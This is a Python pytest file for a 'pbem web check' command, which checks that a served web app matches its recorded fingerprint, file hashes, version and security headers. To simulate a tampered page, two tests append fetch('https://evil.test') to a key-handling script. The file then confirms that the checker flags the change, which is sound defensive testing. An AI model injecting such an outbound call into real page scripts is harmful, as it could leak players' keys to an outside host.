"""``pbem web check``: a page that is what it says it is, and each way in which one is not."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from pbem.web.build import HASHES, SERVICE, archive, fingerprint_of, service_of
from pbem.web.check import check
from pbem.web.policy import headers_of
from pbem.web.serve import page_files, server
from tests.cli.seats import run
from tests.web.versions import another_version


@contextmanager
def at_an_address(files: dict[str, bytes], *, bare: str = "") -> Iterator[str]:
    """A server of these files; the headers of ``bare`` are missing."""

    def headers(name: str) -> dict[str, str]:
        return {"Content-Type": "text/plain"} if name == bare else headers_of(name)

    running = server(files, 0, headers=headers)
    threading.Thread(target=running.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{running.server_address[1]}"
    finally:
        running.shutdown()
        running.server_close()


@pytest.fixture(scope="module")
def files(built: Path) -> dict[str, bytes]:
    return page_files(built)


def test_folder_archive_and_address_are_one_page(
    built: Path, files: dict[str, bytes], tmp_path: Path
) -> None:
    archive(built, tmp_path / "page.zip")
    said = json.loads(files["built.json"])["version"]
    with at_an_address(files) as url:
        for place in (str(built), str(tmp_path / "page.zip"), url, url + "/index.html"):
            checked = check(place, fingerprint_of(files[HASHES]).upper())
            assert (checked.version, checked.faults, checked.files) == (said, (), len(files))
        result = run("web", "check", url, "--fingerprint", "00", "--json")
        assert "served to you now" in run("web", "check", url).out
    assert "served to you now" not in run("web", "check", str(built)).out
    assert result.code == 4
    assert json.loads(result.out)["faults"] == [
        f"the fingerprint is {fingerprint_of(files[HASHES])}, expected 00"
    ]


def test_each_way_to_be_another_page_is_shown(files: dict[str, bytes], tmp_path: Path) -> None:
    altered = {**files, "keys.mjs": files["keys.mjs"] + b"fetch('https://evil.test')"}
    del altered["app.zip"]
    with at_an_address(altered, bare="post.mjs") as url:
        faults = check(url).faults
    assert [fault.split(":")[0] for fault in faults] == ["app.zip", "keys.mjs", *["post.mjs"] * 3]
    assert faults[0].endswith("it is not there")
    assert "Content-Security-Policy is missing" in faults[2]
    other = another_version(files, "9.9")
    (tmp_path / "page").mkdir()
    for name, data in {**other, SERVICE: files[SERVICE], "more.js": b""}.items():
        (tmp_path / "page" / name).parent.mkdir(exist_ok=True)
        (tmp_path / "page" / name).write_bytes(data)
    checked = check(str(tmp_path / "page"), fingerprint_of(files[HASHES]))
    assert checked.version == "9.9"
    assert [fault.split(" ")[0] for fault in checked.faults] == ["the", "service.js:", "more.js:"]
    assert service_of(other[HASHES]) == other[SERVICE]


def test_a_players_own_word_for_his_page_stands_on_his_paper(
    files: dict[str, bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PBEM_HOME", str(tmp_path))
    passphrase = tmp_path / "passphrase"
    passphrase.write_text("six white horses\n")
    passphrase.chmod(0o600)
    asked = ("--passphrase-file", str(passphrase))
    assert run("id", "new", "Anna", *asked).code == 0
    assert "browser" not in run("id", "backup", *asked).out
    altered = {**files, "keys.mjs": files["keys.mjs"] + b"fetch('https://evil.test')"}
    with at_an_address(altered) as url:
        refused = run("web", "check", "--use", url)
    assert (refused.code, "keys.mjs" in refused.out, "is not kept" in refused.out) == (4, True, True)
    with at_an_address(files) as url:
        assert run("web", "check", "--use", url + "/index.html#match=7q3kdw1x").code == 0
    assert run("id", "backup", *asked).out.rstrip().endswith(f"{url}/")
    for none in ('https://a"b/', "ftp://page.test/", "page"):
        assert run("web", "check", "--use", none).code == 2


@pytest.mark.parametrize("listing", [b"", b"[]", b'{"files": 1, "version": "1"}', b'{"files": {}}'])
def test_what_is_no_page(listing: bytes) -> None:
    with at_an_address({HASHES: listing}) as url:
        answer = run("web", "check", url)
    assert (answer.code, answer.out) == (2, "")
    assert "there is no web app" in answer.err


def test_a_page_of_this_release_is_held_against_the_one_that_came_with_pbem(
    built: Path, files: dict[str, bytes], tmp_path: Path
) -> None:
    own, version = tmp_path / "page.zip", json.loads(files["built.json"])["version"]
    archive(built, own)
    altered = another_version(files, version)  # the same number, other words, and hashes that fit
    with at_an_address(altered) as url:
        (fault,) = check(url, own=own).faults
        assert fault.endswith(f"expected {fingerprint_of(files[HASHES])}")
    with at_an_address(another_version(files, "9.9")) as url:
        assert check(url, own=own).faults == ()
